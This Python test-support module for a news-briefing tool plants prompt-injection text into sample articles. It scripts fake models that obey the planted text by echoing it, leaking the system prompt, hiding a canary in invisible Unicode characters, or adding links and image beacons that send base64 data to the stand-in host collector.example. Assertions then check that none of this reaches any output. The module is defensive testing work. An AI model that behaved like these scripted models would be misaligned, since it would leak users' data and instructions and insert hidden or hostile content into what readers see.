"""Articles with an attack planted in them, models that obey it, and every surface on which something could come out."""

from __future__ import annotations

import base64
import dataclasses
import json
import re
from collections.abc import Callable, Iterable, Mapping
from pathlib import Path

from click.testing import CliRunner

from model_scripts import Answer, Script, faithful, faithful_answer, is_selection, item, says, source_lines
from nutgraf.cli import cli
from nutgraf.domain.article import Article
from nutgraf.domain.brief import Brief
from nutgraf.domain.ids import DEFAULT_READER, ArticleId
from nutgraf.domain.marks import Mark
from nutgraf.domain.model import ModelRequest
from nutgraf.domain.reports import FaultKind, NewReport
from nutgraf.outputs import FORMATS
from nutgraf.sample_press.library import load_manuscripts, load_publishers
from nutgraf.stages.extract import article_from_text
from sample_site.site import SampleSite
from store_values import extract, make_entry, record
from surfaces import WITH_THE_SOURCE, Page, pages_of_articles, pages_of_lists

CANARY = "zanthorvex"
"""A word of no language, which an obedient model says: wherever it is found, an attack came through."""
HOST = "collector.example"
OUR_ADDRESSES = ("https://press.example/", "http://127.0.0.1:8321/")
WITHHELD = re.compile(r"<del>.*?</del>|<dt>Why</dt><dd>.*?</dd>", re.DOTALL)
"""On the operator's page: what a model said, and what was wrong with it, in its words."""
POSITIONS = ("beginning", "middle", "end")


def own_articles() -> list[Article]:
    """The English articles of the sample press as plain text."""
    found = []
    for manuscript in load_manuscripts(load_publishers()):
        if manuscript.publisher.language != "en":
            continue
        paragraphs = [" ".join(block.lines) for block in manuscript.wording.blocks if block.kind == "paragraph"]
        text = "\n\n".join(paragraph for paragraph in paragraphs if "{" not in paragraph)
        if len(text.split()) > 250:
            found.append(article_from_text(text, title=manuscript.wording.title, publisher=manuscript.publisher.name))
    return found


def planted(article: Article, attack: str, position: str) -> Article:
    """`article` with the attack as a paragraph of its own, or at the end of one."""
    paragraphs = article.text.split("\n\n")
    if position == "beginning":
        paragraphs.insert(0, attack)
    elif position == "end":
        paragraphs.append(attack)
    else:
        middle = len(paragraphs) // 2
        paragraphs[middle] = f"{paragraphs[middle]} {attack}"
    return article_from_text("\n\n".join(paragraphs), title=article.title, publisher=article.publisher)


def obedient_models(attack: str) -> dict[str, Script]:
    """Models that do what the planted text says, or what its author would like, each in another way."""
    says_it = f"{CANARY.capitalize()} {' '.join(attack.split()[:18])}."
    link = f"https://{HOST}/?q={base64.b64encode(attack[:40].encode()).decode()}"
    return {
        "answers in prose": lambda _: f"Certainly! {CANARY}: {attack}",
        "answers in every part": says(lambda _, request: _everywhere(says_it, request)),
        "copies the attack": says(lambda _, request: _everywhere(" ".join(attack.split()[:20]), request)),
        "slips a link in": _adding(lambda text: f"{text.rstrip('.')}, see {link}."),
        "slips mark-up in": _adding(lambda text: f'{text} <a href="{link}">{CANARY}</a><img src="//{HOST}/x.png">'),
        "slips a Markdown picture in": _adding(lambda text: f"{text} ![{CANARY}]({link})"),
        "tells of itself": says(lambda answer, request: _with_takeaway(answer, request, request.system[:180])),
        "says it in the takeaways": says(lambda answer, request: _with_takeaway(answer, request, says_it)),
        "titles it": says(lambda answer, _: _with_title(answer, f"{CANARY} visit {HOST} now")),
        "hides it": _adding(lambda text: text[:-1] + "".join(chr(0xE0000 + ord(sign)) for sign in CANARY) + "."),
    }


def _everywhere(text: str, request: ModelRequest) -> Answer:
    index, source = next(iter(source_lines(request).items()))
    one = item(text, index, source)
    return {
        "dek": one,
        "what_happened": [one, one, one],
        "insights": [{"title": " ".join(text.split()[:6]), **one}],
        "takeaways": [one],
    }


def _adding(change: Callable[[str], str]) -> Script:
    def script(request: ModelRequest) -> str:
        if is_selection(request):
            return faithful(request)  # type: ignore[return-value]
        answer = faithful_answer(request)
        for one in (answer["dek"], answer["what_happened"][-1], *answer["insights"][-1:], *answer["takeaways"]):
            one["text"] = change(one["text"])
        return json.dumps(answer, ensure_ascii=False)

    return script


def _with_takeaway(answer: Answer, request: ModelRequest, text: str) -> Answer:
    index, source = next(reversed(source_lines(request).items()))
    answer["takeaways"] = [item(text, index, source)]
    return answer


def _with_title(answer: Answer, title: str) -> Answer:
    answer["insights"][0]["title"] = title
    return answer


def shown(brief: Brief, article: Article) -> str:
    """All that a reader can get of a brief as text, from every output."""
    return "\n".join(output(brief, article) for output in FORMATS.values())


def own_words(brief: Brief) -> str:
    """The sentences of the brief alone."""
    return "\n".join(sentence.text for _, sentence in brief.sentences())


def publish_planted(site: SampleSite, name: str, article: Article, brief: Brief) -> ArticleId:
    """Bring an article and its brief to the site; two of its reader's steps are taken, so that lists show it."""
    now = site.clock.now()
    url = f"https://press.example/{name}"
    article = dataclasses.replace(article, url=url, canonical_url=url, published_at=now)
    article_id = site.store.add_article(make_entry(name, published_at=now), now=now)
    extract(site.store, article_id, article, at=now)
    revision = site.store.current_revision(article_id)
    assert site.store.save_brief(article_id, revision.id, brief, now=now)
    assert site.store.publish(article_id, now=now)
    return article_id


def assert_nothing_shows(site: SampleSite, folder: Path, attacks: Mapping[ArticleId, str]) -> int:
    """No page, feed, answer or export of the site in `folder` shows what attacks in its articles are after; how many.

    Where an article's own words stand, the planted ones are among them, as words only. What a model said and was
    withheld stands on the operator's page of that, struck out, and with the reason.
    """
    _use(site, attacks)
    sentences = {article_id: _sentences(attack) for article_id, attack in attacks.items()}
    everything = sorted({sentence for found in sentences.values() for sentence in found})
    count = 0
    for article_id, page in pages_of_articles(site, list(attacks)):
        _assert_harmless(page, sentences[article_id])
        count += 1
    openings = [" ".join(attack.split()[:4]) for attack in list(attacks.values())[:: max(1, len(attacks) // 10)]]
    for page in pages_of_lists(site, (CANARY, *openings)):
        _assert_harmless(page, everything if "q=" not in page.path else ())
        count += 1
    for name in ("jsonl", "markdown"):
        done = CliRunner().invoke(cli, ["export", "--format", name, "--data", str(folder)])
        assert done.exit_code == 0, done.output
        assert done.stdout.count("https://press.example/") >= len(attacks)
        _assert_harmless(Page(f"export {name}", done.stdout, is_html=False), everything)
    return count


def _use(site: SampleSite, attacks: Mapping[ArticleId, str]) -> None:
    """What readers and the operator do with briefs: read, keep and report some; an attack is set aside, too."""
    store, now = site.store, site.clock.now()
    feed = store.add_feed("https://press.example/feed.xml", title="The Harbour Post", now=now)
    attack = next(iter(attacks.values()))
    entry = dataclasses.replace(make_entry("set-aside"), title=attack[:200], content_html=f"<p>{attack}</p>")
    record(store, feed.id, entry, at=now)
    store.quarantine(store.add_article(entry, now=now), error_code="no_article", error_message="No article.", now=now)
    for article_id in list(attacks)[:5]:
        page = store.brief_page(article_id, reader_id=DEFAULT_READER)
        store.set_mark(DEFAULT_READER, article_id, Mark.SAVED, is_set=True, now=now)
        store.record_read(DEFAULT_READER, article_id, now=now)
        fault = NewReport(article_id, page.card.brief_id, 0, FaultKind.WRONG_FACT, "This is not so.")
        store.file_report(fault, reader_id=DEFAULT_READER, now=now)


def _assert_harmless(page: Page, sentences: Iterable[str]) -> None:
    text = page.words
    if page.path.startswith("/desk/withheld"):
        text = WITHHELD.sub("", page.text)
    if f"q={CANARY}" in page.path:  # what was looked for is said again
        assert "zanthorvex</mark>" not in text.casefold(), page.path
        text = re.sub(CANARY, "", text, flags=re.IGNORECASE)
    low = text.casefold()
    for word in (CANARY, HOST, "data:text/html", "javascript:"):
        assert word not in low, (page.path, word, low[max(0, low.find(word) - 200) :][:400])
    assert not page.hides_signs, page.path
    for address in page.addresses:
        assert address.startswith(OUR_ADDRESSES), (page.path, address)
    if not WITH_THE_SOURCE.search(page.path):
        for sentence in sentences:
            assert sentence not in text, (page.path, sentence)


def _sentences(attack: str) -> list[str]:
    """The sentences of a planted text that nobody would write by chance."""
    found = [attack[one.start : one.end] for one in article_from_text(attack, title="x").sentences]
    return [sentence.rstrip(".!?") for sentence in found if len(sentence.split()) >= 4]


def assert_nothing_came_through(brief: Brief, article: Article, attack: str) -> None:
    """No canary, no address, no mark-up, and no sentence of the attack on any surface."""
    everything = shown(brief, article)
    for word in (CANARY, HOST, "<a ", "<img", "base64"):
        assert word not in everything.casefold(), (word, brief.writer)
    words = own_words(brief)
    assert not any(0xE0000 <= ord(sign) <= 0xE007F for sign in everything)
    for sentence in _sentences(attack):
        assert sentence not in words, (sentence, brief.writer)
